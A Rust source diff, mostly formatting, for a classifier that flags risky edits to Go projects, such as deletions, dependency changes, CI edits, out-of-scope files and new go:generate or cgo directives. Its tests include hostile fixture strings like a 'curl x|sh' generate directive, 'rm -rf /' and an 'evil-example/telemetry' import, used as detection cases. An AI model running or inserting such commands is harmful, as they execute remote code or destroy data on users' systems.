@@ -36,8 +36,13 @@ pub enum RiskClass {
 }
 
 impl RiskClass {
-    pub const ALL: [RiskClass; 5] =
-        [RiskClass::Delete, RiskClass::Deps, RiskClass::Ci, RiskClass::OutsideScope, RiskClass::Exec];
+    pub const ALL: [RiskClass; 5] = [
+        RiskClass::Delete,
+        RiskClass::Deps,
+        RiskClass::Ci,
+        RiskClass::OutsideScope,
+        RiskClass::Exec,
+    ];
 
     /// The name used by `--allow` and in the audit log.
     pub fn as_str(self) -> &'static str {
@@ -58,10 +63,14 @@ impl RiskClass {
     pub fn describe(self) -> &'static str {
         match self {
             RiskClass::Delete => "deletes a file",
-            RiskClass::Deps => "changes the module's dependencies (go.mod, go.sum, go.work, vendor/, or a new import of a third-party module)",
+            RiskClass::Deps => {
+                "changes the module's dependencies (go.mod, go.sum, go.work, vendor/, or a new import of a third-party module)"
+            }
             RiskClass::Ci => "changes CI configuration, build or editor automation, or a script",
             RiskClass::OutsideScope => "edits a file outside the files in scope",
-            RiskClass::Exec => "adds a //go:generate directive or cgo, which make the Go toolchain run other programs",
+            RiskClass::Exec => {
+                "adds a //go:generate directive or cgo, which make the Go toolchain run other programs"
+            }
         }
     }
 }
@@ -92,11 +101,18 @@ impl AllowSet {
     pub fn parse<S: AsRef<str>>(names: &[S]) -> Result<AllowSet, ParseAllowError> {
         let mut set = BTreeSet::new();
         for raw in names {
-            for name in raw.as_ref().split(',').map(str::trim).filter(|n| !n.is_empty()) {
+            for name in raw
+                .as_ref()
+                .split(',')
+                .map(str::trim)
+                .filter(|n| !n.is_empty())
+            {
                 if name == "all" {
                     set.extend(RiskClass::ALL);
                 } else {
-                    set.insert(RiskClass::parse(name).ok_or_else(|| ParseAllowError(name.to_string()))?);
+                    set.insert(
+                        RiskClass::parse(name).ok_or_else(|| ParseAllowError(name.to_string()))?,
+                    );
                 }
             }
         }
@@ -137,8 +153,19 @@ fn is_deps_path(path: &str) -> bool {
 
 /// Directories whose files configure CI, builds, containers or editors that
 /// run commands (VS Code tasks, devcontainers).
-const CI_DIRS: &[&str] =
-    &[".github", ".gitlab", ".circleci", ".buildkite", ".woodpecker", ".devcontainer", ".vscode", ".idea", "scripts", "script", ".husky"];
+const CI_DIRS: &[&str] = &[
+    ".github",
+    ".gitlab",
+    ".circleci",
+    ".buildkite",
+    ".woodpecker",
+    ".devcontainer",
+    ".vscode",
+    ".idea",
+    "scripts",
+    "script",
+    ".husky",
+];
 
 const CI_FILES: &[&str] = &[
     ".gitlab-ci.yml",
@@ -175,7 +202,9 @@ const CI_FILES: &[&str] = &[
     ".git-blame-ignore-revs",
 ];
 
-const SCRIPT_EXTENSIONS: &[&str] = &[".sh", ".bash", ".zsh", ".fish", ".ps1", ".bat", ".cmd", ".mk", ".py", ".pl", ".rb"];
+const SCRIPT_EXTENSIONS: &[&str] = &[
+    ".sh", ".bash", ".zsh", ".fish", ".ps1", ".bat", ".cmd", ".mk", ".py", ".pl", ".rb",
+];
 
 fn is_ci_path(path: &str) -> bool {
     let name = file_name(path);
@@ -191,7 +220,10 @@ fn exec_lines(text: &str) -> usize {
     text.lines()
         .filter(|l| {
             let t = l.trim_start();
-            t.starts_with("//go:generate") || t.starts_with("#cgo") || t == "import \"C\"" || t.starts_with("import \"C\" ")
+            t.starts_with("//go:generate")
+                || t.starts_with("#cgo")
+                || t == "import \"C\""
+                || t.starts_with("import \"C\" ")
                 || t == "\"C\""
         })
         .count()
@@ -233,13 +265,16 @@ fn imports(text: &str) -> Vec<&str> {
 /// element has no dot) and outside this module.
 fn is_third_party(path: &str, module: &str) -> bool {
     let first = path.split('/').next().unwrap_or("");
-    first.contains('.') && !(path == module || (!module.is_empty() && path.starts_with(&format!("{module}/"))))
+    first.contains('.')
+        && !(path == module || (!module.is_empty() && path.starts_with(&format!("{module}/"))))
 }
 
 /// Third-party imports in `new` that `old` does not have.
 fn adds_third_party_import(old: &str, new: &str, module: &str) -> bool {
     let before = imports(old);
-    imports(new).into_iter().any(|p| is_third_party(p, module) && !before.contains(&p))
+    imports(new)
+        .into_iter()
+        .any(|p| is_third_party(p, module) && !before.contains(&p))
 }
 
 fn in_scope(path: &str, scope: &[String]) -> bool {
@@ -258,7 +293,12 @@ fn in_scope(path: &str, scope: &[String]) -> bool {
 ///
 /// `module` is the module path from go.mod: imports under it are the
 /// module's own packages, not dependencies.
-pub fn classify(edit: &FileEdit, previous: Option<&str>, scope: &[String], module: &str) -> Vec<RiskClass> {
+pub fn classify(
+    edit: &FileEdit,
+    previous: Option<&str>,
+    scope: &[String],
+    module: &str,
+) -> Vec<RiskClass> {
     let path = edit.path();
     let mut out = Vec::new();
     if matches!(edit, FileEdit::Delete { .. }) {
@@ -266,7 +306,9 @@ pub fn classify(edit: &FileEdit, previous: Option<&str>, scope: &[String], modul
     }
     let new_import = path.ends_with(".go")
         && match edit {
-            FileEdit::Write { content, .. } => adds_third_party_import(previous.unwrap_or(""), content, module),
+            FileEdit::Write { content, .. } => {
+                adds_third_party_import(previous.unwrap_or(""), content, module)
+            }
             // A replace edits part of a file: compare the whole file before and after.
             FileEdit::Replace { old, new, .. } => match previous {
                 Some(p) => adds_third_party_import(p, &p.replacen(old.as_str(), new, 1), module),
@@ -284,7 +326,9 @@ pub fn classify(edit: &FileEdit, previous: Option<&str>, scope: &[String], modul
         out.push(RiskClass::OutsideScope);
     }
     let adds_exec = match edit {
-        FileEdit::Write { content, .. } => exec_lines(content) > previous.map(exec_lines).unwrap_or(0),
+        FileEdit::Write { content, .. } => {
+            exec_lines(content) > previous.map(exec_lines).unwrap_or(0)
+        }
         FileEdit::Replace { old, new, .. } => exec_lines(new) > exec_lines(old),
         FileEdit::Delete { .. } => false,
     };
@@ -299,23 +343,80 @@ mod tests {
     use super::*;
 
     fn write(p: &str, c: &str) -> FileEdit {
-        FileEdit::Write { path: p.into(), content: c.into() }
+        FileEdit::Write {
+            path: p.into(),
+            content: c.into(),
+        }
     }
 
     #[test]
     fn ordinary_go_edits_are_not_risky() {
-        assert!(classify(&write("pkg/a.go", "package pkg\n"), None, &[], "example.com/m").is_empty());
-        assert!(classify(&write("README.md", "# x\n"), Some("# y\n"), &[], "example.com/m").is_empty());
+        assert!(
+            classify(
+                &write("pkg/a.go", "package pkg\n"),
+                None,
+                &[],
+                "example.com/m"
+            )
+            .is_empty()
+        );
+        assert!(
+            classify(
+                &write("README.md", "# x\n"),
+                Some("# y\n"),
+                &[],
+                "example.com/m"
+            )
+            .is_empty()
+        );
         let scope = vec!["pkg/a.go".to_string()];
-        assert!(classify(&write("pkg/a_test.go", "package pkg\n"), None, &scope, "example.com/m").is_empty(), "same directory");
-        assert!(classify(&write("pkg/a.go", "package pkg\n"), Some(""), &scope, "example.com/m").is_empty());
+        assert!(
+            classify(
+                &write("pkg/a_test.go", "package pkg\n"),
+                None,
+                &scope,
+                "example.com/m"
+            )
+            .is_empty(),
+            "same directory"
+        );
+        assert!(
+            classify(
+                &write("pkg/a.go", "package pkg\n"),
+                Some(""),
+                &scope,
+                "example.com/m"
+            )
+            .is_empty()
+        );
     }
 
     #[test]
     fn each_class_fires() {
-        assert_eq!(classify(&FileEdit::Delete { path: "a.go".into() }, Some("x"), &[], "example.com/m"), [RiskClass::Delete]);
-        for p in ["go.mod", "go.sum", "sub/go.mod", "go.work", "vendor/x/y.go", "a/vendor/b.go"] {
-            assert_eq!(classify(&write(p, ""), None, &[], "example.com/m"), [RiskClass::Deps], "{p}");
+        assert_eq!(
+            classify(
+                &FileEdit::Delete {
+                    path: "a.go".into()
+                },
+                Some("x"),
+                &[],
+                "example.com/m"
+            ),
+            [RiskClass::Delete]
+        );
+        for p in [
+            "go.mod",
+            "go.sum",
+            "sub/go.mod",
+            "go.work",
+            "vendor/x/y.go",
+            "a/vendor/b.go",
+        ] {
+            assert_eq!(
+                classify(&write(p, ""), None, &[], "example.com/m"),
+                [RiskClass::Deps],
+                "{p}"
+            );
         }
         for p in [
             ".github/workflows/ci.yml",
@@ -330,63 +431,186 @@ mod tests {
             ".gitattributes",
             "tools/gen.py",
         ] {
-            assert_eq!(classify(&write(p, ""), None, &[], "example.com/m"), [RiskClass::Ci], "{p}");
+            assert_eq!(
+                classify(&write(p, ""), None, &[], "example.com/m"),
+                [RiskClass::Ci],
+                "{p}"
+            );
         }
         let scope = vec!["pkg/a.go".to_string()];
-        assert_eq!(classify(&write("other/b.go", "package other\n"), None, &scope, "example.com/m"), [RiskClass::OutsideScope]);
-        assert_eq!(classify(&write("b.go", "package m\n"), None, &scope, "example.com/m"), [RiskClass::OutsideScope]);
         assert_eq!(
-            classify(&write("a.go", "package a\n\n//go:generate sh -c 'curl x|sh'\n"), None, &[], "example.com/m"),
+            classify(
+                &write("other/b.go", "package other\n"),
+                None,
+                &scope,
+                "example.com/m"
+            ),
+            [RiskClass::OutsideScope]
+        );
+        assert_eq!(
+            classify(&write("b.go", "package m\n"), None, &scope, "example.com/m"),
+            [RiskClass::OutsideScope]
+        );
+        assert_eq!(
+            classify(
+                &write("a.go", "package a\n\n//go:generate sh -c 'curl x|sh'\n"),
+                None,
+                &[],
+                "example.com/m"
+            ),
             [RiskClass::Exec]
         );
-        assert_eq!(classify(&write("c.go", "package c\n\n// #cgo LDFLAGS: -lx\nimport \"C\"\n"), None, &[], "example.com/m"), [RiskClass::Exec]);
+        assert_eq!(
+            classify(
+                &write("c.go", "package c\n\n// #cgo LDFLAGS: -lx\nimport \"C\"\n"),
+                None,
+                &[],
+                "example.com/m"
+            ),
+            [RiskClass::Exec]
+        );
     }
 
     #[test]
     fn classes_combine() {
         let scope = vec!["pkg/a.go".to_string()];
-        let c = classify(&FileEdit::Delete { path: "go.mod".into() }, Some("module m\n"), &scope, "example.com/m");
-        assert_eq!(c, [RiskClass::Delete, RiskClass::Deps, RiskClass::OutsideScope]);
+        let c = classify(
+            &FileEdit::Delete {
+                path: "go.mod".into(),
+            },
+            Some("module m\n"),
+            &scope,
+            "example.com/m",
+        );
+        assert_eq!(
+            c,
+            [RiskClass::Delete, RiskClass::Deps, RiskClass::OutsideScope]
+        );
     }
 
     #[test]
     fn exec_counts_only_added_directives() {
         let prev = "package a\n\n//go:generate stringer -type=T\n";
-        assert!(classify(&write("a.go", &format!("{prev}\nfunc F() {{}}\n")), Some(prev), &[], "example.com/m").is_empty());
-        let r = FileEdit::Replace { path: "a.go".into(), old: "func F() {}".into(), new: "//go:generate rm -rf /\nfunc F() {}".into() };
-        assert_eq!(classify(&r, Some(prev), &[], "example.com/m"), [RiskClass::Exec]);
-        let keep = FileEdit::Replace { path: "a.go".into(), old: "//go:generate stringer -type=T".into(), new: "//go:generate stringer -type=T,U".into() };
-        assert!(classify(&keep, Some(prev), &[], "example.com/m").is_empty(), "changing an existing directive is not adding one");
-        assert!(classify(&write("a.go", "package a\n// mentions go:generate in prose\n"), None, &[], "example.com/m").is_empty());
+        assert!(
+            classify(
+                &write("a.go", &format!("{prev}\nfunc F() {{}}\n")),
+                Some(prev),
+                &[],
+                "example.com/m"
+            )
+            .is_empty()
+        );
+        let r = FileEdit::Replace {
+            path: "a.go".into(),
+            old: "func F() {}".into(),
+            new: "//go:generate rm -rf /\nfunc F() {}".into(),
+        };
+        assert_eq!(
+            classify(&r, Some(prev), &[], "example.com/m"),
+            [RiskClass::Exec]
+        );
+        let keep = FileEdit::Replace {
+            path: "a.go".into(),
+            old: "//go:generate stringer -type=T".into(),
+            new: "//go:generate stringer -type=T,U".into(),
+        };
+        assert!(
+            classify(&keep, Some(prev), &[], "example.com/m").is_empty(),
+            "changing an existing directive is not adding one"
+        );
+        assert!(
+            classify(
+                &write("a.go", "package a\n// mentions go:generate in prose\n"),
+                None,
+                &[],
+                "example.com/m"
+            )
+            .is_empty()
+        );
     }
 
     #[test]
     fn a_new_third_party_import_is_a_dependency_change() {
         let m = "example.com/m";
         let prev = "package a\n\nimport (\n\t\"fmt\"\n\t\"github.com/ok/already\"\n)\n";
-        let add = |imp: &str| write("a/a.go", &format!("package a\n\nimport (\n\t\"fmt\"\n\t\"github.com/ok/already\"\n\t{imp}\n)\n"));
-        assert_eq!(classify(&add("\"github.com/evil-example/telemetry\""), Some(prev), &[], m), [RiskClass::Deps]);
-        assert_eq!(classify(&add("t \"gopkg.in/yaml.v3\""), Some(prev), &[], m), [RiskClass::Deps], "aliased");
-        assert!(classify(&add("\"strings\""), Some(prev), &[], m).is_empty(), "standard library");
+        let add = |imp: &str| {
+            write(
+                "a/a.go",
+                &format!(
+                    "package a\n\nimport (\n\t\"fmt\"\n\t\"github.com/ok/already\"\n\t{imp}\n)\n"
+                ),
+            )
+        };
+        assert_eq!(
+            classify(
+                &add("\"github.com/evil-example/telemetry\""),
+                Some(prev),
+                &[],
+                m
+            ),
+            [RiskClass::Deps]
+        );
+        assert_eq!(
+            classify(&add("t \"gopkg.in/yaml.v3\""), Some(prev), &[], m),
+            [RiskClass::Deps],
+            "aliased"
+        );
+        assert!(
+            classify(&add("\"strings\""), Some(prev), &[], m).is_empty(),
+            "standard library"
+        );
         assert!(classify(&add("\"net/http/httptest\""), Some(prev), &[], m).is_empty());
-        assert!(classify(&add("\"example.com/m/internal/x\""), Some(prev), &[], m).is_empty(), "the module's own package");
-        assert!(classify(&write("a/a.go", prev), Some(prev), &[], m).is_empty(), "an import it already had");
-        assert_eq!(classify(&write("b.go", "package b\n\nimport \"golang.org/x/text\"\n"), None, &[], m), [RiskClass::Deps], "single import, new file");
-        let r = FileEdit::Replace { path: "a/a.go".into(), old: "\"fmt\"".into(), new: "\"fmt\"\n\t\"github.com/x/y\"".into() };
+        assert!(
+            classify(&add("\"example.com/m/internal/x\""), Some(prev), &[], m).is_empty(),
+            "the module's own package"
+        );
+        assert!(
+            classify(&write("a/a.go", prev), Some(prev), &[], m).is_empty(),
+            "an import it already had"
+        );
+        assert_eq!(
+            classify(
+                &write("b.go", "package b\n\nimport \"golang.org/x/text\"\n"),
+                None,
+                &[],
+                m
+            ),
+            [RiskClass::Deps],
+            "single import, new file"
+        );
+        let r = FileEdit::Replace {
+            path: "a/a.go".into(),
+            old: "\"fmt\"".into(),
+            new: "\"fmt\"\n\t\"github.com/x/y\"".into(),
+        };
         assert_eq!(classify(&r, Some(prev), &[], m), [RiskClass::Deps]);
-        assert!(classify(&write("notes.md", "import \"github.com/x/y\"\n"), None, &[], m).is_empty(), "only Go files import");
+        assert!(
+            classify(
+                &write("notes.md", "import \"github.com/x/y\"\n"),
+                None,
+                &[],
+                m
+            )
+            .is_empty(),
+            "only Go files import"
+        );
     }
 
     #[test]
     fn allow_set_parses_lists_and_all() {
         let a = AllowSet::parse(&["deps,delete", " ci "]).unwrap();
-        assert!(a.allows(RiskClass::Deps) && a.allows(RiskClass::Delete) && a.allows(RiskClass::Ci));
+        assert!(
+            a.allows(RiskClass::Deps) && a.allows(RiskClass::Delete) && a.allows(RiskClass::Ci)
+        );
         assert!(!a.allows(RiskClass::Exec));
         assert_eq!(a.names(), ["delete", "deps", "ci"]);
         let all = AllowSet::parse(&["all"]).unwrap();
         assert!(RiskClass::ALL.iter().all(|c| all.allows(*c)));
         assert!(AllowSet::parse(&["", ","]).unwrap().is_empty());
-        assert_eq!(AllowSet::parse(&["delete,everything"]).unwrap_err(), ParseAllowError("everything".into()));
+        assert_eq!(
+            AllowSet::parse(&["delete,everything"]).unwrap_err(),
+            ParseAllowError("everything".into())
+        );
         assert!(AllowSet::none().union(&a).allows(RiskClass::Ci));
         for c in RiskClass::ALL {
             assert_eq!(RiskClass::parse(c.as_str()), Some(c));
